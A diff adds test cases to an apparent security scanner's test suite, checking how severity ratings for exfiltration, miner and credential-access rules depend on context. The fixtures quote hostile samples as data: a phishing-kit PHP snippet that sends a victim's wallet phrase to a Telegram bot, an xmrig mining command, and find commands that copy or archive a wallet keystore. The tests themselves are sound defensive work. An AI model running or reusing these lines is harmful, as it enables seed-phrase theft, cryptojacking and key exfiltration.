@@ -307,6 +307,60 @@ describe('context-dependent severity (test data)', () => {
     expect(at('tests/run_tp.sh')).toBe('CRITICAL');
   });
 
+  it("should cap a program a security skill's case note quotes as an excerpt, not a shell block or an instruction", () => {
+    const fm = { name: 'phish-takedown', description: 'Takedown workflow for phishing sites' };
+    const code =
+      '$w = implode(" ", $_POST["w"]);\n$msg = "Phrase: ".$w;\nfile_get_contents("https://api.telegram.org/bot".$TOKEN."/sendMessage?chat_id=".$CHAT."&text=".urlencode($msg));\nheader("Location: https://example.com/");\n';
+    const at = (lead: string, lang: string, frontmatter: Record<string, unknown> | undefined = fm) =>
+      findingsOf(
+        `# Case 12\n\n## kit notes\n- ${lead}\n\`\`\`${lang}\n${code}\`\`\`\n`,
+        'notes/case-12.md',
+        frontmatter,
+      ).find((f) => f.rule_id === 'SG-EXFIL-003')?.severity;
+    expect(at('next.php, trimmed:', 'php')).toBe('MEDIUM');
+    expect(at('next.php, trimmed:', 'bash')).toBe('HIGH');
+    expect(at('next.php:', 'php')).toBe('HIGH');
+    expect(at('run it, trimmed:', 'php')).toBe('HIGH');
+    expect(at('next.php, trimmed:', 'php', {})).toBe('HIGH');
+  });
+
+  it('should cap a test file named for its outcome first (positive_cmdlines.txt) but not a script so named', () => {
+    const at = (file: string) =>
+      findingsOf('xmrig -o stratum+tcp://pool.example.net:3333 -u WALLET\n', file).find(
+        (f) => f.rule_id === 'SG-MINER-001',
+      )?.severity;
+    expect(at('tests/positive_cmdlines.txt')).toBe('MEDIUM');
+    expect(at('test/false-positives_cron.log')).toBe('MEDIUM');
+    expect(at('tests/positive_setup.sh')).toBe('CRITICAL');
+    expect(at('config/positive_cmdlines.txt')).toBe('CRITICAL');
+  });
+
+  it('should cap a shell variable named for a regex and written as one, unless the script runs it', () => {
+    const at = (text: string) =>
+      findingsOf(text, 'hunt/hunt.sh').find((f) => f.rule_id === 'SG-MINER-004')?.severity;
+    const rx = "MINER_RX='stratum\\+(tcp|ssl)|--donate-level|xmrig'\n";
+    expect(at(rx + 'ps -eo args | grep -E "$MINER_RX"\n')).toBe('MEDIUM');
+    expect(at(rx + 'eval "$MINER_RX"\n')).toBe('HIGH');
+    expect(at(rx + '$MINER_RX &\n')).toBe('HIGH');
+    // Not written as a regex: a command line kept in a variable.
+    expect(at('MINER_RX=\'xmrig -o pool.example.net:3333 --donate-level 1\'\ngrep -E "$MINER_RX" x\n')).toBe(
+      'HIGH',
+    );
+  });
+
+  it('should rate an inventory of a wallet keystore (metadata, digests) MEDIUM, a search or a copy HIGH', () => {
+    const at = (line: string) =>
+      findingsOf(`KEYSTORE=/opt/signer/keystore\n${line}\n`, 'scripts/triage.sh').find(
+        (f) => f.rule_id === 'SG-CRED-004',
+      )?.severity;
+    expect(at('find "$KEYSTORE" -type f -printf \'%M %u %s %p\\n\' > "$OUT/keystore_ls.txt"')).toBe('MEDIUM');
+    expect(at('find "$KEYSTORE" -type f -exec sha256sum {} + > "$OUT/keystore_sha256.txt"')).toBe('MEDIUM');
+    expect(at('find "$KEYSTORE" -type f -exec cat {} + > "$OUT/k.txt"')).toBe('HIGH');
+    expect(at('find "$KEYSTORE" -type f -printf "%p\\n" | tar czf /tmp/k.tgz -T -')).toBe('HIGH');
+    expect(at('find "$KEYSTORE" -type f -exec sha256sum {} + -exec cp {} /tmp/ \\;')).toBe('HIGH');
+    expect(at('find "$HOME" -name "*keystore*" -printf "%p\\n" > /tmp/l')).toBe('HIGH');
+  });
+
   it('should cap commands taught by flash cards and quizzes at MEDIUM but not in other tables', () => {
     const at = (file: string, text: string) =>
       findingsOf(text, file).find((f) => f.rule_id === 'SG-DROPPER-001')?.severity;
